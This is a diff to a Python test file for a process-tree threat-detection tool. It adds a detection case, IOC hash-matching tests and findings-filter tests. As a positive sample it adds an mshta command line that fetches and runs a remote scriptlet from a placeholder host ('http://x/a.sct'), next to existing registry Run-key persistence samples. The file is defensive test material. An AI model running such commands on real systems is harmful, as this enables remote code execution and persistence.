@@ -127,6 +127,11 @@ BUILTIN_CASES = {
         {"Image": r"C:\Windows\System32\reg.exe", "CommandLine":
          r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v OneDrive /d "
          r"C:\Users\b\AppData\Local\Microsoft\OneDrive\OneDrive.exe"}),
+    "Mshta or Rundll32 Runs Script Code or a Remote HTML Application": (
+        {"Image": r"C:\Windows\System32\mshta.exe",
+         "CommandLine": "mshta.exe javascript:a=GetObject('script:http://x/a.sct').Exec()"},
+        {"Image": r"C:\Windows\System32\rundll32.exe",
+         "CommandLine": "rundll32.exe shell32.dll,Control_RunDLL desk.cpl"}),
     "Office Application Starts a Shell or Script Host": (
         {"ParentImage": r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
          "Image": r"C:\Windows\System32\cmd.exe", "CommandLine": "cmd /c calc"},
@@ -158,7 +163,7 @@ def test_detection_on_the_demo_marks_the_intrusion_once_per_process(demo) -> Non
                 "an analyst's bookmark", author="ana")
     for _ in range(2):  # a second pass replaces the first's findings
         report = detect(demo)
-    assert report.rules == 6 and not report.refused
+    assert report.rules == len(BUILTIN_CASES) and not report.refused
     found = [f for f in export_findings(demo) if f["kind"] == "rule"]
     by_image = {}
     procs = {p["id"]: p for p in export_processes(demo)}
@@ -196,3 +201,40 @@ def test_detect_command_over_the_sigmahq_rules(demo, db_url: str, samples: Path)
     bad = subprocess.run([str(script), "detect", "--db", db_url, "--rules", "/nonexistent"],
                          capture_output=True, text=True)
     assert bad.returncode == 2 and "no such rule file or folder" in bad.stderr
+
+
+def test_ioc_hashes_mark_the_processes_that_ran_them(demo, tmp_path: Path) -> None:
+    from proctrail.generate.model import fake_hash
+    from proctrail.store.detect.ioc import IocError, hashes_of, load_iocs
+
+    updater = fake_hash("sha256", r"C:\Users\Public\updater.exe")
+    iocs = tmp_path / "iocs.csv"
+    iocs.write_text(f"indicator,type\n{updater.lower()},sha256\n{'ab' * 16},md5\n")
+    report = detect(demo, iocs=load_iocs([iocs]))
+    found = [f for f in export_findings(demo) if f["kind"] == "ioc"]
+    procs = {p["id"]: p for p in export_processes(demo)}
+    assert [procs[f["process_id"]]["image"] for f in found] == [r"C:\Users\Public\updater.exe"]
+    assert found[0]["rule_id"] == updater.lower() and "iocs.csv" in found[0]["summary"]
+    assert report.by_rule[f"IOC SHA256 {updater.lower()}"] == 1
+    assert hashes_of("SHA1=AB" + "0" * 38 + ",MD5=" + "c" * 32) == [
+        ("SHA1", "ab" + "0" * 38), ("MD5", "c" * 32)]
+    empty = tmp_path / "none.txt"
+    empty.write_text("no digests here\n")
+    with pytest.raises(IocError, match=r"none\.txt: no MD5, SHA1 or SHA256 digest"):
+        load_iocs([empty])
+
+
+def test_filter_keeps_processes_with_findings_and_the_tree_their_ancestors(demo) -> None:
+    from proctrail.store.queries import browse
+    from proctrail.store.queries.filters import parse_filter
+
+    detect(demo)
+    flagged = browse.search(demo, "", parse_filter("findings"))
+    assert sorted(r.name for r in flagged) == ["ftp.exe", "powershell.exe", "reg.exe",
+                                               "regsvr32.exe", "updater.exe"]
+    assert all(r.findings for r in flagged)
+    alice = next(s for s in browse.session_rows(demo) if s.logon_id == "0x5b3f21")
+    forest, matched = browse.filtered_forest(demo, parse_filter("findings"), alice.id)
+    shown = {r.name for rows in forest.values() for r in rows}
+    assert matched == 5 and shown >= {"WINWORD.EXE", "OUTLOOK.EXE", "explorer.exe",
+                                      "userinit.exe", "powershell.exe"}
